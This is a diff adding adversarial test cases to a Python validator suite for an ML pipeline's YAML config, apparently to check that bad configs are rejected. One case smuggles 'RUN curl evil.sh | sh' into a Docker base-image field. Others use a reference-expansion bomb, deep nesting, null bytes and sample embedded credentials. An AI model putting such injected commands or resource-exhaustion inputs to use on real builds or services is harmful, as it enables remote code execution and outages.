@@ -141,6 +141,38 @@ CASES: list[tuple[str, str, str]] = [
     ("kfold_with_timestamp", "  backend: lightgbm\n", "  backend: lightgbm\n  cv: {strategy: kfold}\n"),
     ("entity_mismatch", "features:\n  entity: user_id", "features:\n  entity: account_id"),
     ("multiclass_bool_target", "task: binary_classification", "task: multiclass_classification"),
+    ("image_base_injection", "serving:\n", "serving:\n  image:\n    base: \"python:3.11\\nRUN curl evil.sh | sh\"\n"),
+    ("nan_min", "amount: {type: float, min: 0}", "amount: {type: float, min: .nan}"),
+    ("nan_min_metric", "  backend: lightgbm\n", "  backend: lightgbm\n  register: {min_metric: .nan}\n"),
+    ("infinite_cost", "  metric: {name: fbeta, beta: 2.0}", "  metric: {name: fbeta, beta: 2.0}\n  costs: {false_negative: .inf}"),
+    ("nan_in_hpo_space", "{type: int, low: 8, high: 64}", "{type: int, low: 8, high: 64}\n      learning_rate: {type: float, low: .nan, high: 0.3}"),
+    ("zero_window", "      encoding: category\n", "      encoding: category\n    - name: n_7d\n      from: events\n      expr: count(*)\n      window: 0d\n      time_column: ts\n"),
+    ("offline_path_is_build", "features:\n  entity: user_id\n", "features:\n  entity: user_id\n  store: {offline: {path: .}}\n"),
+    ("env_in_source_uri", "uri: data/events.csv", "uri: ${oc.env:EVENTS,data/events.csv}"),
+    ("nul_in_path", "uri: data/events.csv", "uri: \"data/ev\\0ents.csv\""),
+    ("entity_as_feature", "    - name: amount\n      from: events\n      expr: amount\n", "    - name: user_id\n      from: events\n      expr: user_id\n    - name: amount\n      from: events\n      expr: amount\n"),
+    (
+        "joined_source_without_entity",
+        BASE[BASE.index("      format: csv\n") : BASE.index("training:")],
+        BASE[BASE.index("      format: csv\n") : BASE.index("training:")]
+        .replace("      format: csv\n", "      format: csv\n    - {name: prices, uri: data/prices.csv, format: csv}\n", 1)
+        .replace("      label: {type: bool}\n", "      label: {type: bool}\n    prices:\n      sku: {type: string}\n      price: {type: float}\n")
+        + "    - {name: price, from: prices, expr: price}\n",
+    ),
+    ("secret_in_env_default", "  backend: lightgbm\n", "  backend: lightgbm\n  tracking: {uri: '${oc.env:MLWRIGHT_TRACKING_URI,http://admin:hunter2@mlflow.internal:5000}'}\n"),
+    ("secret_in_url_query", "  backend: lightgbm\n", "  backend: lightgbm\n  tracking: {uri: 'http://mlflow.internal:5000/?token=abc123'}\n"),
+    ("recursive_alias", "  description: Predict a label.\n", "  description: &a [*a]\n"),
+    ("deep_flow_nesting", "  description: Predict a label.\n", "  description: " + "[" * 600 + "]" * 600 + "\n"),
+    ("huge_integer", "trials: 5", "trials: " + "9" * 5000),
+    ("newline_in_key", "  description: Predict a label.\n", '  "desc\\nription": Predict a label.\n'),
+    (
+        "reference_bomb",
+        "  description: Predict a label.\n",
+        "  description: '${x8}'\n"
+        + "".join(f"x{i}: [" + ",".join([f"'${{x{i - 1}}}'"] * 10) + "]\n" for i in range(1, 9))
+        + "x0: [1, 2, 3, 4, 5, 6, 7, 8, 9, 10]\n",
+    ),
+    ("label_source_time_column", "      format: csv\n", "      format: csv\n      time_column: amount\n"),
 ]
 
 
